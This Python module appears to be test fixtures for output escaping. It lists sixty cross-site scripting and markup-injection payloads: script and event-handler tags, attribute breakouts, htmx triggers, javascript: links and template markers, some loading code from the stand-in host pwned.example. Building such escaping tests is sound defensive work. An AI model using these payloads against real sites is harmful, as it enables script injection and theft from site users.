"""Sixty texts that break pages which do not escape. Each calls `pwned()` where it runs, and says `pwned` where it lands."""

ELEMENTS = (
    "<script>pwned()</script>",
    "</script><script>pwned()</script>",
    "<SCRIPT SRC=//pwned.example/x.js></SCRIPT>",
    "<scr<script>ipt>pwned()</script>",
    "</title><script>pwned()</script>",
    "</textarea><script>pwned()</script>",
    "</option></select><img src=x onerror=pwned()>",
    "<img src=x onerror=pwned()>",
    "<img src=x onerror=pwned() //",
    "<svg onload=pwned()>",
    "<svg><script>pwned()</script></svg>",
    "<svg><animate onbegin=pwned() attributeName=x dur=1s>",
    "<math><mtext><img src=x onerror=pwned()>",
    "<body onload=pwned()>",
    "<iframe srcdoc='<script>parent.pwned()</script>'>",
    "<iframe src=javascript:parent.pwned()>",
    "<object data=javascript:pwned()>",
    "<embed src=javascript:pwned()>",
    "<details open ontoggle=pwned()>x</details>",
    "<video><source onerror=pwned()></video>",
    "<input autofocus onfocus=pwned()>",
    "<marquee onstart=pwned()>x</marquee>",
    "<base href=//pwned.example/>",
    "<meta http-equiv=refresh content=0;url=//pwned.example>",
    "<link rel=stylesheet href=//pwned.example/x.css>",
    "<style>@import '//pwned.example/x.css'</style>",
    "<form action=//pwned.example><button>x</button></form>",
    "<template><script>pwned()</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=pwned()>'>",
    "<!--><img src=x onerror=pwned()>-->",
)
ATTRIBUTES = (
    '" onmouseover="pwned()',
    "' onmouseover='pwned()",
    '" autofocus onfocus="pwned()',
    '"><img src=x onerror=pwned()>',
    "'><svg onload=pwned()>",
    '" style="background:url(//pwned.example)',
    '" formaction="javascript:pwned()',
    "` onmouseover=pwned() `",
    "x onclick=pwned() y",
    "&quot; onmouseover=&quot;pwned()",
    "&lt;img src=x onerror=pwned()&gt;",
)
HTMX = (
    "<p hx-get=//pwned.example hx-trigger=load>x</p>",
    "<p data-hx-get=/pwned data-hx-trigger=load>x</p>",
    "<p hx-on:click=pwned()>x</p>",
    "<p hx-on::load=pwned()>x</p>",
    "<p hx-vals='js:{a:pwned()}' hx-get=/ hx-trigger=load>x</p>",
    '" hx-get="//pwned.example" hx-trigger="load',
)
ADDRESSES = (
    "javascript:pwned()",
    "[x](javascript:pwned())",
    "[x](JaVaScRiPt:pwned())",
    "[x](data:text/html,<script>pwned()</script>)",
    "[x](vbscript:pwned)",
    "![x](javascript:pwned())",
    '[x](https://a.example/"onmouseover=pwned())',
    "<javascript:pwned()>",
    "[x]: javascript:pwned()",
)
TEMPLATES = (
    "{{ pwned }}{% pwned %}",
    "${pwned()}#{pwned()}",
    "%(pwned)s {pwned} %s",
    "\u200fpwned\u200e<b>",  # what turns the direction of other words is refused
)
HOSTILE = (*ELEMENTS, *ATTRIBUTES, *HTMX, *ADDRESSES, *TEMPLATES)
PAIRS = tuple(" ".join(HOSTILE[at : at + 2]) for at in range(0, len(HOSTILE), 2))
"""All of them, two in a text: the shortest field that people write in takes no more."""
